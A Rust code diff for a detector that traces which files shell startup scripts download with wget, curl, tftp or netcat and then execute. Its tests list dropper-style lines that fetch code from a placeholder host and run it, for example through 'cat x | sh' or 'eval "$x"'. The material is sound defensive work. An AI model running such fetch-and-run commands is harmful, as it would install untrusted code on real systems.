@@ -1,7 +1,7 @@
 //! Programs that fetch, what they write where, and what a startup file runs of it later.
 
 use super::place::place;
-use super::shell::{Commands, Role};
+use super::shell::{Commands, Role, is_starter};
 use super::text::{Bytes, basename};
 use crate::limits::{FETCHED, FETCHED_BYTES};
 
@@ -19,21 +19,22 @@ pub enum Fetch<'a> {
 pub fn fetch(commands: &Commands, command: u16) -> Option<Fetch<'_>> {
     let arguments = || commands.program(command).skip(1);
     let fetched = match commands.name(command) {
-        b"wget" | b"uclient-fetch" => match option(arguments(), b'O', b"--output-document") {
-            Some(b"-") => Fetch::Output,
-            Some(file) => Fetch::File(file),
+        b"wget" | b"uclient-fetch" => match option(arguments(), b'O', b"--output-document", WGET_VALUES) {
+            Some(file) => to(file),
             None => Fetch::File(remote_name(arguments())?),
         },
-        b"curl" => match option(arguments(), b'o', b"--output") {
-            Some(b"-") => Fetch::Output,
-            Some(file) => Fetch::File(file),
-            None if has_flag(arguments(), b'O', b"--remote-name") => Fetch::File(remote_name(arguments())?),
+        b"curl" => match option(arguments(), b'o', b"--output", CURL_VALUES) {
+            Some(file) => to(file),
+            None if has_flag(arguments(), b'O', b"--remote-name", CURL_VALUES) => {
+                Fetch::File(remote_name(arguments())?)
+            }
             None => Fetch::Output,
         },
-        b"tftp" => match option(arguments(), b'l', b"--local") {
-            Some(b"-") => Fetch::Output,
-            Some(file) => Fetch::File(file),
-            None => Fetch::File(option(arguments(), b'r', b"--remote").or_else(|| arguments().last())?),
+        b"tftp" => match option(arguments(), b'l', b"--local", b"rb") {
+            Some(file) => to(file),
+            None => {
+                Fetch::File(option(arguments(), b'r', b"--remote", b"lb").or_else(|| arguments().last())?)
+            }
         },
         // ftpget HOST LOCAL REMOTE, or HOST REMOTE (BusyBox, networking/ftpgetput.c).
         b"ftpget" => {
@@ -41,9 +42,9 @@ pub fn fetch(commands: &Commands, command: u16) -> Option<Fetch<'_>> {
             for word in arguments() {
                 local = core::mem::replace(&mut remote, word);
             }
-            Fetch::File(if host_like(local) { remote } else { local })
+            to(if host_like(local) { remote } else { local })
         }
-        b"nc" | b"ncat" | b"netcat" | b"socat" | b"lynx" | b"fetch" | b"ssl_client" => Fetch::Output,
+        b"nc" | b"ncat" | b"netcat" | b"lynx" | b"ssl_client" => Fetch::Output,
         _ => return None,
     };
     match (fetched, commands.words(command, Role::Output).next()) {
@@ -52,23 +53,40 @@ pub fn fetch(commands: &Commands, command: u16) -> Option<Fetch<'_>> {
     }
 }
 
+/// Letters of short options that take a value, which may hold any other letter (wget(1), BusyBox networking/wget.c;
+/// curl(1)).
+const WGET_VALUES: &[u8] = b"aoeiBtTwQPUYARDIXl";
+const CURL_VALUES: &[u8] = b"AbcCdDeEFhHKmPQrtTuUwxXyYz";
+
+/// What a file name means to a fetcher.
+fn to(file: &[u8]) -> Fetch<'_> {
+    match file {
+        b"-" | b"/dev/stdout" | b"/dev/fd/1" | b"/proc/self/fd/1" => Fetch::Output,
+        _ => Fetch::File(file),
+    }
+}
+
 /// Nothing, or digits and dots only: the host of `ftpget`, not a file.
 fn host_like(word: &[u8]) -> bool {
     word.iter().all(|b| b.is_ascii_digit() || *b == b'.')
 }
 
-/// The value of a short option, alone, in a cluster (`-qO-`) or as `--long=value`.
-fn option<'a>(mut words: impl Iterator<Item = &'a [u8]>, short: u8, long: &[u8]) -> Option<&'a [u8]> {
+/// The value of a short option, alone, in a cluster (`-qO-`) or as `--long=value`, which may be abbreviated (getopt(3)).
+/// `values` are the letters of other options that take one.
+fn option<'a>(
+    mut words: impl Iterator<Item = &'a [u8]>,
+    short: u8,
+    long: &[u8],
+    values: &[u8],
+) -> Option<&'a [u8]> {
+    const SHORTEST: usize = 5;
     while let Some(word) = words.next() {
-        if let Some(rest) = word.strip_prefix(long) {
-            match rest.first() {
-                Some(b'=') => return rest.get(1..),
-                None => return words.next(),
-                _ => {}
+        if word.starts_with(b"--") {
+            let name = word.split(|b| *b == b'=').next().unwrap_or_default();
+            if name.len() >= SHORTEST && long.starts_with(name) {
+                return word.get(name.len().saturating_add(1)..).or_else(|| words.next());
             }
-        } else if is_cluster(word)
-            && let Some(at) = word.iter().position(|b| *b == short)
-        {
+        } else if let Some(at) = letter(word, short, values) {
             let value = word.get(at.saturating_add(1)..).unwrap_or_default();
             return if value.is_empty() { words.next() } else { Some(value) };
         }
@@ -76,8 +94,16 @@ fn option<'a>(mut words: impl Iterator<Item = &'a [u8]>, short: u8, long: &[u8])
     None
 }
 
-fn has_flag<'a>(mut words: impl Iterator<Item = &'a [u8]>, short: u8, long: &[u8]) -> bool {
-    words.any(|word| word == long || (is_cluster(word) && word.contains(&short)))
+fn has_flag<'a>(mut words: impl Iterator<Item = &'a [u8]>, short: u8, long: &[u8], values: &[u8]) -> bool {
+    words.any(|word| word == long || letter(word, short, values).is_some())
+}
+
+/// Where a letter stands in a cluster of short options. What follows a letter that takes a value is that value.
+fn letter(word: &[u8], short: u8, values: &[u8]) -> Option<usize> {
+    let end =
+        word.iter().skip(1).position(|b| values.contains(b)).map_or(word.len(), |at| at.saturating_add(1));
+    let letters = word.get(..end).filter(|_| is_cluster(word))?;
+    letters.iter().position(|b| *b == short)
 }
 
 /// `-abc`: one dash, then letters.
@@ -92,38 +118,53 @@ fn remote_name<'a>(words: impl Iterator<Item = &'a [u8]>) -> Option<&'a [u8]> {
     Some(if name.is_empty() { b"index.html" } else { name })
 }
 
-/// The words of a command that name code it runs: the program and those that start it, the script of a shell,
-/// what `start-stop-daemon`, procd and `insmod` are told to start, and `LD_PRELOAD`.
+/// The words of a command that name code it runs: the program and those that start it, the script of a shell or what is
+/// fed to one, what `start-stop-daemon`, procd and `insmod` are told to start, and what `LD_PRELOAD` and `PATH` name.
 pub fn executed<'a>(commands: &'a Commands, command: u16, each: &mut dyn FnMut(&'a [u8])) {
     let length = commands.program(command).count();
     let all = || commands.words(command, Role::Argument);
+    for word in all() {
+        let library = word.strip_prefix(b"LD_PRELOAD=");
+        if let Some(list) = library.or_else(|| word.strip_prefix(b"PATH=")) {
+            list.split(|b| matches!(b, b' ' | b':')).for_each(&mut *each);
+        }
+    }
     for word in all().take(all().count().saturating_sub(length)) {
-        match word.strip_prefix(b"LD_PRELOAD=") {
-            Some(library) => each(library),
-            None if word.contains(&b'/') && !word.contains(&b'=') => each(word),
-            None => {}
+        if is_starter(word) {
+            each(word);
         }
     }
     let mut words = commands.program(command);
     let Some(program) = words.next() else { return };
     each(program);
+    let mut operand = || words.find(|word| word.first() != Some(&b'-'));
     match basename(program) {
         b"start-stop-daemon" => {
-            for long in [&b"--exec"[..], b"--startas"] {
-                let short = if long == b"--exec" { b'x' } else { b'a' };
-                if let Some(word) = option(commands.program(command).skip(1), short, long) {
+            for (short, long) in [(b'x', &b"--exec"[..]), (b'a', b"--startas")] {
+                if let Some(word) = option(commands.program(command).skip(1), short, long, b"") {
                     each(word);
                 }
             }
         }
-        b"procd_set_param" if words.next() == Some(b"command") => words.next().into_iter().for_each(each),
-        b"insmod" | b"service_start" | b"daemon" => words.next().into_iter().for_each(each),
-        _ if commands.is_shell(command)
-            && !has_flag(commands.program(command).skip(1), b'c', b"--command") =>
-        {
-            words.find(|word| word.first() != Some(&b'-')).into_iter().for_each(each);
-        }
+        b"procd_set_param" if operand() == Some(b"command") => operand().into_iter().for_each(each),
+        b"insmod" | b"service_start" | b"daemon" => operand().into_iter().for_each(each),
+        _ if commands.is_shell(command) => shell_runs(commands, command, each),
         _ => {}
+    }
+}
+
+/// What a shell runs besides itself: its script, a variable that it evaluates, or its input.
+fn shell_runs<'a>(commands: &'a Commands, command: u16, each: &mut dyn FnMut(&'a [u8])) {
+    let arguments = || commands.program(command).skip(1);
+    let text = has_flag(arguments(), b'c', b"--command", b"");
+    if text || commands.name(command) == b"eval" {
+        arguments().filter(|word| word.first() == Some(&b'$')).for_each(&mut *each);
+    } else if let Some(script) = arguments().find(|word| !matches!(word.first(), Some(b'-' | b'+'))) {
+        each(script);
+    }
+    commands.words(command, Role::Input).for_each(&mut *each);
+    for from in commands.feeders(command).filter(|from| commands.name(*from) == b"cat") {
+        commands.program(from).skip(1).for_each(&mut *each);
     }
 }
 
@@ -132,6 +173,7 @@ pub fn executed<'a>(commands: &'a Commands, command: u16, each: &mut dyn FnMut(&
 pub struct Memory {
     fetched: heapless::Vec<(Bytes<FETCHED_BYTES>, u32), FETCHED>,
     directory: Bytes<FETCHED_BYTES>,
+    directory_line: u32,
     runs: Option<Run>,
     from_directory: Option<u16>,
     full: bool,
@@ -156,6 +198,7 @@ impl Memory {
         Self {
             fetched: heapless::Vec::new(),
             directory: Bytes::new(),
+            directory_line: 0,
             runs: None,
             from_directory: None,
             full: false,
@@ -196,40 +239,92 @@ impl Memory {
             executed(commands, index, &mut |word| {
                 let named = word.contains(&b'/') || word.first() == Some(&b'$') || is_shell;
                 run = run.or_else(|| self.line_that_fetched(word).filter(|_| named));
-                relative |= word.starts_with(b"./");
+                let script = is_shell && commands.name(index) != basename(word);
+                relative |= word.first().is_some_and(|b| !matches!(b, b'/' | b'$' | b'-'))
+                    && (word.contains(&b'/') || script)
+                    && self.is_odd_there(word);
             });
             if let Some(fetched_at) = run {
                 self.runs = self.runs.or(Some(Run { command: index, fetched_at }));
             }
-            if relative && place(self.directory.as_slice()).is_odd() {
+            if relative {
                 self.from_directory = self.from_directory.or(Some(index));
             }
             self.note(commands, index, line);
         }
     }
 
+    /// Whether a relative name is in an odd place, as far as the directory is known.
+    fn is_odd_there(&self, word: &[u8]) -> bool {
+        let mut path = self.directory.clone();
+        path.push(b"/");
+        path.push(word);
+        !self.directory.is_empty() && place(path.as_slice()).is_odd()
+    }
+
     fn note(&mut self, commands: &Commands, index: u16, line: u32) {
-        let mut arguments = commands.program(index).skip(1).filter(|word| word.first() != Some(&b'-'));
+        let operands = || commands.program(index).skip(1).filter(|word| word.first() != Some(&b'-'));
+        let fetches = |from: u16| fetch(commands, from) == Some(Fetch::Output);
+        let fed = commands.feeders(index).any(fetches);
         match commands.name(index) {
+            // `cd /tmp || cd /mnt || cd /`: the first that there is, so on one line an odd one stays.
             b"cd" => {
-                self.directory =
-                    Bytes::of(arguments.next().filter(|dir| dir.first() == Some(&b'/')).unwrap_or_default());
-            }
-            b"mv" | b"cp" => {
-                if let (Some(from), Some(to)) = (arguments.next(), arguments.next())
-                    && let Some(fetched_at) = self.line_that_fetched(from)
-                {
-                    self.remember(to, fetched_at);
+                let there = operands().next().filter(|dir| dir.first() == Some(&b'/')).unwrap_or_default();
+                let odd = place(self.directory.as_slice()).is_odd() && self.directory_line == line;
+                if !odd {
+                    self.directory = Bytes::of(there);
+                    self.directory_line = line;
                 }
             }
+            b"mv" | b"cp" => {
+                let mut operands = operands();
+                if let (Some(from), Some(to)) = (operands.next(), operands.next()) {
+                    self.also(from, to);
+                }
+            }
+            b"cat" => {
+                if let (Some(from), Some(to)) =
+                    (operands().next(), commands.words(index, Role::Output).next())
+                {
+                    self.also(from, to);
+                }
+            }
+            b"tee" if fed => operands().for_each(|file| self.remember(file, line)),
+            b"dd" if fed => {
+                for file in operands().filter_map(|word| word.strip_prefix(b"of=")) {
+                    self.remember(file, line);
+                }
+            }
+            b"" => self.variable(commands, index, line),
             _ => {}
         }
         if let Some(Fetch::File(file)) = fetch(commands, index) {
             self.remember(file, line);
         }
-        let fed = commands.feeders(index).any(|from| fetch(commands, from) == Some(Fetch::Output));
         if let Some(file) = commands.words(index, Role::Output).next().filter(|_| fed) {
             self.remember(file, line);
+        }
+    }
+
+    /// `x=$(wget …)`: what `$x` holds was fetched.
+    fn variable(&mut self, commands: &Commands, index: u16, line: u32) {
+        if !commands.inside(index).any(|inner| fetch(commands, inner) == Some(Fetch::Output)) {
+            return;
+        }
+        let unfiltered = commands.inside(index).count() == 1;
+        for word in commands.words(index, Role::Argument).filter(|_| unfiltered) {
+            if let Some(name) = word.strip_suffix(b"=") {
+                let mut variable = Bytes::<FETCHED_BYTES>::of(b"$");
+                variable.push(name);
+                self.remember(variable.as_slice(), line);
+            }
+        }
+    }
+
+    /// A copy of what was fetched was fetched too.
+    fn also(&mut self, from: &[u8], to: &[u8]) {
+        if let Some(fetched_at) = self.line_that_fetched(from) {
+            self.remember(to, fetched_at);
         }
     }
 
@@ -275,6 +370,10 @@ mod tests {
             (b"tftp 192.0.2.1 -c get x", Some(Fetch::File(b"x"))),
             (b"ftpget -v -u a -p b -P 21 192.0.2.1 local.sh remote.sh", Some(Fetch::File(b"local.sh"))),
             (b"ftpget 192.0.2.1 remote.sh", Some(Fetch::File(b"remote.sh"))),
+            (b"wget -UOpera -O- http://h/x", Some(Fetch::Output)),
+            (b"wget --output-doc=- http://h/x", Some(Fetch::Output)),
+            (b"curl -XPOST -Afoo http://h/x", Some(Fetch::Output)),
+            (b"timeout -s KILL 5 wget -O /dev/stdout http://h/x", Some(Fetch::Output)),
             (b"sh x", None),
         ] {
             let mut commands = Commands::new();
@@ -302,6 +401,11 @@ mod tests {
             b"wget http://h/a; mv a /etc/b\n. /etc/b",
             b"curl http://h/x | gunzip > /tmp/y; nohup /tmp/y",
             b"wget http://h/x -O /tmp/x\nstart-stop-daemon -S -b -x /tmp/x",
+            b"cd /tmp || cd /; wget http://h/mips; cat mips >WTF; chmod +x *; ./WTF",
+            b"x=$(wget -qO- http://h/x); eval \"$x\"",
+            b"wget http://h/x; sh <x",
+            b"wget http://h/x; cat x | sh",
+            b"wget -O- http://h/x | tee /tmp/y; sh /tmp/y",
         ] {
             assert!(runs(text).is_some(), "{}", String::from_utf8_lossy(text));
         }
